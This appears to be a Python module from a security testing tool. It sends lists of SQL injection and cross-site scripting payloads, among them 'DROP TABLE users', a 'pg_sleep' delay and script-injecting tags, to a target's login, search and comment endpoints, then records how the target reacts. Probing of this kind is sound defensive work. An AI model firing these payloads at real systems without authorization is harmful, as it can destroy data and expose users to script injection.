"""Injection probes: fire known attack payloads and record how the target reacts."""

import logging
from urllib.parse import quote

from .client import TargetClient
from .config import DetectionThresholds
from .models import InjectionProbeReport
from .scorer import RuleScorer, ScoringModel

logger = logging.getLogger(__name__)

SQL_PAYLOADS = (
    "' OR '1'='1",
    "' OR 1=1--",
    "admin'--",
    "' UNION SELECT * FROM users--",
    "' AND (SELECT COUNT(*) FROM users)>0--",
    "'; DROP TABLE users; --",
    "' OR pg_sleep(5)--",
)

XSS_PAYLOADS = (
    "<script>alert('XSS')</script>",
    "<img src=x onerror=alert('XSS')>",
    "javascript:alert('XSS')",
    "<svg onload=alert('XSS')>",
    "';alert('XSS');//",
)

SQL_ERROR_MARKERS = ("SQL", "syntax", "database")


class InjectionProbe:
    def __init__(
        self,
        client: TargetClient,
        scorer: ScoringModel | None = None,
        thresholds: DetectionThresholds | None = None,
    ) -> None:
        self._client = client
        self._clock = client.clock
        self._scorer = scorer or RuleScorer()
        self._thresholds = thresholds or DetectionThresholds()

    async def detect_sql_injection_patterns(
        self, payloads: tuple[str, ...] = SQL_PAYLOADS
    ) -> InjectionProbeReport:
        """Submit each payload as a login username.

        A 200 counts as a successful injection, a body leaking database
        errors as error-based, and a slow answer or timeout as time-based.
        """
        successful = error_based = time_based = 0
        for payload in payloads:
            response = await self._client.post(
                "/api/login", json={"username": payload, "password": "test"}
            )
            if response.failed:
                if response.error and "timeout" in response.error.lower():
                    time_based += 1
                logger.debug("SQL probe %r failed: %s", payload, response.error)
            else:
                if response.status == 200:
                    successful += 1
                if response.duration_ms > self._thresholds.slow_injection_ms:
                    time_based += 1
                if any(marker in response.body for marker in SQL_ERROR_MARKERS):
                    error_based += 1
            await self._clock.sleep(self._thresholds.probe_delay_ms)

        return InjectionProbeReport(
            attempted_payloads=tuple(payloads),
            successful_injections=successful,
            error_based_attempts=error_based,
            time_based_attempts=time_based,
            flagged_by_scorer=self._count_flagged(payloads),
        )

    async def detect_xss_patterns(self, payloads: tuple[str, ...] = XSS_PAYLOADS) -> InjectionProbeReport:
        """Check each payload for unescaped reflection via search and persistence via comments."""
        reflected = stored = 0
        for payload in payloads:
            search = await self._client.get(f"/api/search?q={quote(payload, safe='')}")
            if not search.failed and payload in search.body and "&lt;" not in search.body:
                reflected += 1

            comment = await self._client.post("/api/comment", json={"comment": payload, "productId": 1})
            if comment.status == 200:
                comments = await self._client.get("/api/comments/1")
                if payload in comments.body:
                    stored += 1
            await self._clock.sleep(self._thresholds.probe_delay_ms)

        logger.info("XSS probe: %d reflected, %d stored of %d", reflected, stored, len(payloads))
        return InjectionProbeReport(
            attempted_payloads=tuple(payloads),
            reflected=reflected,
            stored=stored,
            flagged_by_scorer=self._count_flagged(payloads),
        )

    def _count_flagged(self, payloads: tuple[str, ...]) -> int:
        return sum(1 for p in payloads if self._scorer.score(p).is_anomaly)
